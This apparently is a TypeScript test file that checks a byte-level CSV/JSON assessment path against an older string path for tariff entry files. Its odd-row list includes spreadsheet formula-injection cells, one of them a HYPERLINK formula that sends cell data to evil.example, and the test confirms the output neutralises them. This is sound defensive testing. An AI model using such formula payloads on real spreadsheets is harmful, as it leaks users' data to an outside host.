/**
 * The byte-level hot path of `assessEntries` against the string implementation it replaced (kept in
 * src/tariff/_test/assess-reference.ts): on a generated file with odd rows mixed in, both must write the
 * same bytes, report the same problems and return the same summary.
 */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable, Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { generate } from '../bench/assess/generate.js';
import type { Problem } from '../src/_lib/problem.js';
import { diskSource } from '../src/_lib/read-file.js';
import { assessEntriesReference } from '../src/tariff/_test/assess-reference.js';
import { assessEntries, createTariffEngine, type TariffEngine } from '../src/tariff/index.js';

const dir = mkdtempSync(join(tmpdir(), 'accord-assess-bytes-'));

/** Odd rows the byte path must hand to the general path, or read the same way itself. */
const ODD = [
  'Q1,1,"imp, quoted",8703.23.01,JP,2025-09-16,40000,ocean,',
  'Q2,1,importé,8703.23.01,JP,2025-09-16,40000,ocean,',
  'Q3,1,acme,7326.90.86,DE,2025-07-01,10000,air,4000',
  'Q4,1,acme,8703.23.01,jp,2025-09-16,1,air,',
  'Q5,1,acme,8703.23.01,JP,2025-02-30,1,air,',
  'Q6,1,acme,8703.23.01,JP,2024-12-31,1,air,',
  'Q7,1,acme,8703.23.01,JP,2025-09-16,1.234,air,',
  'Q8,1,acme,8703.23.01,JP,2025-09-16,99999999999.99,ship,',
  'Q9,1,acme,1234.56.78,JP,2025-09-16,10,ocean,',
  'Q9,2,acme,87032301,JP,2025-09-16,10,ocean,',
  'Q10,1,,8703.23.01,JP,2026-03-01,0,other,\r',
  'Q11,1,acme,8703.23.01,JP,2025-09-16',
  '',
  'Q12,1,acme,8703.23.01.00.1,JP,2025-09-16,5,,',
  // Values the output writes differently from the input, and ones it copies as they are.
  'Q13,1,acme,8703.23.01,JP,2025-09-16,007.50,air,',
  'Q14,1,acme,8703.23.01,JP,2025-09-16,10.5,air,',
  'Q15,1,acme,8703.23.01,JP,2025-09-16,0.05,air,',
  'Q16,1,acme,8703.23.01,JP,2025-09-16,00.00,air,',
  'Q17,1,acme,8703.23.01,JP,2025-09-16,120.00,air,',
  // Bytes JSON must escape: the JSON byte path hands these rows on.
  'Q18,1,back\\slash,8703.23.01,JP,2025-09-16,10.00,air,',
  'Q19,1,tab\there,8703.23.01,JP,2025-09-16,10.00,air,',
  // Hostile cells (issue 12): formulas the results CSV must neutralise, a bare CR it must quote, values and
  // dates both paths must refuse alike.
  '=1+1,1,acme,8703.23.01,JP,2025-09-16,10.00,air,',
  'Q20,@SUM(A1:A9),acme,8703.23.01,JP,2025-09-16,10.00,air,',
  'Q21,1,"=HYPERLINK(""http://evil.example/?d=""&A1,""x"")",8703.23.01,JP,2025-09-16,10.00,air,',
  'Q22,1,+imp,8703.23.01,JP,2025-09-16,10.00,air,',
  'Q23,1,-imp,8703.23.01,JP,2025-09-16,10.00,air,',
  'Q24,1,\timp,8703.23.01,JP,2025-09-16,10.00,air,',
  'Q25,1,ac\rme,8703.23.01,JP,2025-09-16,10.00,air,',
  'Q26,1,acme,\t8703.23.01,JP,2025-09-16,10.00,air,',
  'Q27,1,acme,8703.23.01,JP,9999-01-01,10.00,air,',
  `Q28,1,acme,8703.23.01,JP,2025-09-16,${'9'.repeat(309)},air,`,
  'Q29,1,acme,8703.23.01,JP,2025-09-16,1constructor,air,',
  'Q30,1,acme,8703.23.01,JP,2025-09-16,9999999999999.99,ocean,',
];

function fileWithOddRows(lines: number, metalShare: number): Buffer {
  const path = join(dir, `entries-${lines}-${metalShare}.csv`);
  generate(lines, path, metalShare, 7);
  const text = readFileSync(path, 'utf8').trimEnd().split('\n');
  // Odd rows every so often, so that entries and pending MPF lines cross between the two paths.
  const out: string[] = [text[0]!];
  for (let i = 1; i < text.length; i++) {
    out.push(text[i]!);
    if (i % 997 === 0) out.push(...ODD);
  }
  return Buffer.from(`${out.join('\n')}\n`);
}

async function assess(
  fn: typeof assessEntries,
  engine: TariffEngine,
  bytes: Buffer,
  format: 'csv' | 'json',
  chunk: number,
) {
  const parts: Buffer[] = [];
  for (let i = 0; i < bytes.length; i += chunk) parts.push(bytes.subarray(i, i + chunk));
  const written: Buffer[] = [];
  const output = new Writable({
    write(c, _e, cb) {
      written.push(Buffer.from(c));
      cb();
    },
  });
  const problems: Problem[] = [];
  const summary = await fn({
    engine,
    input: Readable.from(parts),
    file: 'entries.csv',
    output,
    format,
    onProblem: (p) => problems.push(p),
  });
  return { bytes: Buffer.concat(written), summary, problems };
}

describe('assessEntries: the byte path writes what the string path wrote', () => {
  const engine = createTariffEngine({}, diskSource);

  it('on a generated file with odd rows, in CSV and JSON, in chunks that split rows', async () => {
    const input = fileWithOddRows(20_000, 0);
    for (const format of ['csv', 'json'] as const) {
      const before = await assess(assessEntriesReference, engine, input, format, 65_521);
      const after = await assess(assessEntries, engine, input, format, 65_521);
      expect(before.problems.length).toBeGreaterThan(100);
      expect(after.problems).toEqual(before.problems);
      expect(after.summary).toEqual(before.summary);
      expect(after.bytes.equals(before.bytes)).toBe(true);
      if (format === 'csv') {
        const text = after.bytes.toString('utf8');
        expect(text).toContain(`\n"'=1+1",1,acme,8703.23.01,`);
        expect(text).toContain(`\nQ24,1,"'\timp",8703.23.01,`);
        expect(text).toContain(`\nQ25,1,"ac\rme",8703.23.01,`);
        expect(text).not.toContain('\nQ27,');
      }
    }
  });

  it('with metal content columns filled (the engine path), and in JSON', async () => {
    const input = fileWithOddRows(5_000, 0.3);
    for (const format of ['csv', 'json'] as const) {
      const before = await assess(assessEntriesReference, engine, input, format, 4_093);
      const after = await assess(assessEntries, engine, input, format, 4_093);
      expect(after.problems).toEqual(before.problems);
      expect(after.summary).toEqual(before.summary);
      expect(after.bytes.equals(before.bytes)).toBe(true);
    }
  });
});
